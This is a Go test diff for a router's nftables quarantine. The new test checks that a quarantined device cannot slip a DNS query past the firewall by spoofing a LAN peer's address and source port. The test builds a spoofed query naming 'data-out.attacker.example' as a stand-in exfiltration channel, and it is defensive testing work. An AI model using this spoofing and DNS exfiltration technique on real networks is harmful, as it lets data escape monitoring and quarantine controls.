@@ -16,6 +16,7 @@ import (
 	"testing"
 	"time"
 
+	"github.com/miekg/dns"
 	"github.com/vishvananda/netlink"
 	"golang.org/x/sys/unix"
 
@@ -973,5 +974,74 @@ add rule ip ftph pre tcp dport 21 ct state established ct mark set ct mark or %#
 	}, marker)
 	if s.count[marker] != 1 {
 		t.Errorf("capture: an expected connection's data logged %d times, want once", s.count[marker])
+	}
+}
+
+// TestSpoofedDNSReachesNoResolver: a quarantined device's DNS reaches the
+// proxy only, also when it takes a LAN peer's address and source port
+// while the peer talks to the router's resolver. Its query then belongs
+// to the peer's conntrack entry, which NAT has seen already, so no
+// redirect touches it: the input chain must not let it through to port
+// 53, where the router's resolver would look its name up on the internet
+// (the answer goes to the peer, but the name has left: a way out one way
+// for what the device sends).
+func TestSpoofedDNSReachesNoResolver(t *testing.T) {
+	requireRoot(t)
+	ctx := context.Background()
+	l := newLab(t)
+	n, err := NewNFTables(Config{
+		RouterAddrs:   addrs(routerV4, routerV6, "198.18.0.1", "2001:2::1"),
+		LANPrefixes:   []netip.Prefix{netip.MustParsePrefix("10.99.0.0/24"), netip.MustParsePrefix("fd99::/64")},
+		NoticePort:    noticePort,
+		DNSProxyPort:  dnsProxyPort,
+		LANInterfaces: []string{"br0"},
+	}, WithNetNSFd(netnstest.Fd(t, l.router)))
+	if err != nil {
+		t.Fatal(err)
+	}
+	if err := n.Reconcile(ctx, []Entry{{MAC: deviceMAC, Addrs: addrs(deviceV4, deviceV6), Mode: ModeBlock}}); err != nil {
+		t.Fatal(err)
+	}
+
+	// The peer asks the router's resolver from one source port and keeps
+	// the socket: its conntrack entry lives on.
+	peerConn, err := netnstest.Dial(l.peer, "udp", net.JoinHostPort(routerV4, "53"), 0)
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer peerConn.Close()
+	if got, err := dnsExchange(peerConn); got != "dnsmasq" {
+		t.Fatalf("the peer's own query answered by %q (%v), want dnsmasq", got, err)
+	}
+	peerPort := uint16(peerConn.LocalAddr().(*net.UDPAddr).Port)
+
+	// The device sends its query from the peer's address and port.
+	q := new(dns.Msg)
+	q.SetQuestion("data-out.attacker.example.", dns.TypeA)
+	q.Id = 0xbeef
+	wire, err := q.Pack()
+	if err != nil {
+		t.Fatal(err)
+	}
+	routerMAC := hwaddr.FromBytes(netnstest.Interface(t, l.router, "br0").HardwareAddr)
+	src, dst := netip.MustParseAddr(peerV4), netip.MustParseAddr(routerV4)
+	sendFrames(t, l.device, [][]byte{ipv4Frame(routerMAC, deviceMAC, src, dst, unix.IPPROTO_UDP, 7, 0, false,
+		udpDatagram(peerPort, 53, string(wire)))})
+
+	// Whoever answered it answers the peer.
+	peerConn.SetReadDeadline(time.Now().Add(1500 * time.Millisecond))
+	buf := make([]byte, 512)
+	for {
+		nr, err := peerConn.Read(buf)
+		if err != nil {
+			return // unanswered: dropped
+		}
+		var r dns.Msg
+		if r.Unpack(buf[:nr]) != nil || r.Id != q.Id || len(r.Answer) != 1 {
+			continue
+		}
+		if a, ok := r.Answer[0].(*dns.A); ok && dnsServerNames[a.A.String()] == "dnsmasq" {
+			t.Fatal("a quarantined device's query under the peer's address and port reached the router's resolver")
+		}
 	}
 }
